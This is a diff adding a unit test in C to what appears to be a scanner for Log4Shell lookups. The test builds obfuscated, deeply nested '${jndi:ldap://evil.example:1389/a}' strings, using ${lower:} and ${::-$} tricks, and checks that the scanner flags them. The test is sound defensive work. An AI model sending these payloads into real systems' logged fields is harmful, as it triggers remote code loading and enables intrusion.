@@ -364,6 +364,30 @@ START_TEST(nesting_deeper_than_the_stack_is_resolved_in_further_rounds)
 }
 END_TEST
 
+// The message is substituted again for every further "${" in it, and a look-up inside another as deep as it stands: log4j has no last round.
+START_TEST(a_look_up_that_takes_more_rounds_than_are_made_is_reported_as_it_stands)
+{
+	static char text[4096], whole[8192];
+
+	for (unsigned n = 1; n < 12; n++) {
+		struct bytes chain = nest(text, sizeof(text), "{::-$}", "", "", n);
+
+		snprintf(whole, sizeof(whole), "${::-$}%.*s{jndi:ldap://evil.example:1389/a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}", (int)chain.left, text);
+		ck_assert_msg(scan(whole) == 1, "%u rounds", n);
+	}
+	for (unsigned n = 60; n < 200; n += 20) {
+		nest(text, sizeof(text), "${lower:", "J", "}", n);
+		snprintf(whole, sizeof(whole), "${%sndi:ldap://evil.example:1389/a}", text);
+		ck_assert_msg(scan(whole) == 1, "depth %u", n);
+	}
+	nest(text, sizeof(text), "${x", "", "}", 20); // of no known value, so that a further round would find it no less deep
+	snprintf(whole, sizeof(whole), "${${%s:-j}ndi:ldap://evil.example:1389/a}", text);
+	ck_assert_uint_eq(scan(whole), 1);
+	nest(text, sizeof(text), "${x ", "", "", 40); // never closed: nothing log4j would look up
+	ck_assert_uint_eq(scan(text), 0);
+}
+END_TEST
+
 START_TEST(a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands)
 {
 	static char middle[7001], text[8192];
@@ -556,6 +580,7 @@ int main(void)
 	tcase_add_test(tcase, basic_credentials_are_decoded_and_named);
 	tcase_add_test(tcase, at_most_four_look_ups_of_a_field_are_reported);
 	tcase_add_test(tcase, nesting_deeper_than_the_stack_is_resolved_in_further_rounds);
+	tcase_add_test(tcase, a_look_up_that_takes_more_rounds_than_are_made_is_reported_as_it_stands);
 	tcase_add_test(tcase, a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands);
 	tcase_add_loop_test(tcase, work_is_bounded_and_linear_in_the_field, 0, 29);
 	tcase_add_loop_test(tcase, the_quick_look_sees_a_sign_at_any_place_in_any_length, 0, 6);
